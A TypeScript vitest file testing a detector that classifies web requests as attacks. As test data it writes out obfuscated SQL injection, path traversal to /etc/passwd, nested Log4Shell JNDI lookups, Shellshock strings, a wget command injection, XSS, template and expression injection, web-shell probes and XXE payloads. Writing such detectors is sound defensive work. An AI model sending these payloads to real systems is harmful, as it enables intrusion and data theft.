import { describe, expect, it } from 'vitest';
import { withoutLookups } from '../../../src-main/detect/behaviours/common/lookups.ts';
import { judgeRequest } from '../../../src-main/detect/behaviours/common/web-patterns.ts';

const judge = (uri: string) => judgeRequest(uri, '', 'x', '', 'GET');

describe('patterns of attacks on web applications', () => {
  it.each([
    ['/a?id=1/**/union/**/all/*x*/select/**/1,2', 'SQL injection'],
    ["/a?id=1'/**/or/*a*b*/1=1", 'SQL injection'],
    ['/a?file=../../etc/passwd', 'path traversal'],
    ['/a/../../../x/../../etc/passwd', 'path traversal'],
  ])('see through comments and detours: %s', (uri, family) => {
    expect(JSON.stringify(judge(uri))).toContain(family);
  });

  // With nested repetition each of these takes longer than the universe is old: that they end is the test.
  it.each([
    ['/a?x=1 union' + '/**/'.repeat(400) + 'x'],
    ["/a?x='" + '/**/'.repeat(400) + 'x'],
    ['/a?x=1 union' + '/*'.repeat(900)],
    ["/a?x='" + ' '.repeat(1900) + 'x'],
  ])('end on what is made to keep them busy', (uri) => {
    expect(judge(uri)).toBeDefined();
  });

  it.each([
    ['/?x=${jndi:ldap://a/b}', 'Log4Shell'],
    ['/?x=${${lower:j}ndi:${lower:l}dap://a/b}', 'Log4Shell'],
    ['/?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://a/b}', 'Log4Shell'],
    ['/?x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//a/b}', 'Log4Shell'],
    ['/?x=${j${' + 'lower:${'.repeat(3) + "upper:n}}}}di:${date:'l'}dap://a}", 'Log4Shell'],
    ['/?x=${' + '${lower:${::-j}}${lower:}'.repeat(3) + 'ndi:dns://a/b}', 'Log4Shell'],
    ['/?x=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D', 'Log4Shell'],
    ['/?x=(%20)%20%7B%20:%20;%20%7D;echo', 'Shellshock'],
    ['/?x=()%20%7B%20_;%7D;', 'Shellshock'],
    ['/?x=%0a%0a%20id;', 'command injection'],
    ['/?x=;wget%20-q%20http://a/b', 'command injection'],
    ['/?x=%3Cscript%20src=a%3Ealert(1)', 'script injection'],
    ['/?x=%3Ca%3E%3Csvg/onload=alert(1)%3E', 'script injection'],
    ['/?x=%7B%7B%2012*12%7D%7D', 'template injection'],
    ['/?x=%3C%25=%207*7%20%25%3E', 'template injection'],
    ['/?x=%25%7B(%23_memberAccess=1)%7D', 'expression injection'],
    ["/c99.php?act='1", 'a web shell'],
    ['/a.jsp?cmd=whoami', 'a web shell'],
    ['/a.jsp?b=1&cmd=whoami', 'a web shell'],
    ['/?x=<!DOCTYPE%20a%20SYSTEM%20"file:///a">', 'XML entity injection'],
  ])('see what stands at a distance or behind lookups: %s', (uri, family) => {
    expect(JSON.stringify(judge(uri))).toContain(family);
  });

  it.each([
    '/?q=select%20a%20template',
    '/?x=${user.name}&y=a/b',
    '/docs/script%3Fa%3Ealert',
    '/?x=%7B%7Bname%7D%7D',
    '/?x=%7B%20a:%20%7B%7D%20%7D;',
  ])('leave ordinary requests alone: %s', (uri) => {
    expect(judge(uri).score).toBeLessThan(5);
  });
});

describe('lookups', () => {
  it('are replaced by their values, nested ones as well; others stay', () => {
    expect(withoutLookups('a${lower:b}c}')).toBe('abc}');
    expect(withoutLookups('${${env:X:-j}n${upper:${::-d}}i:x}')).toBe('${jndi:x}');
    expect(withoutLookups('${${::-l}ower:j}')).toBe('j');
    expect(withoutLookups('${user}${lower:x')).toBe('${user}x');
  });
});
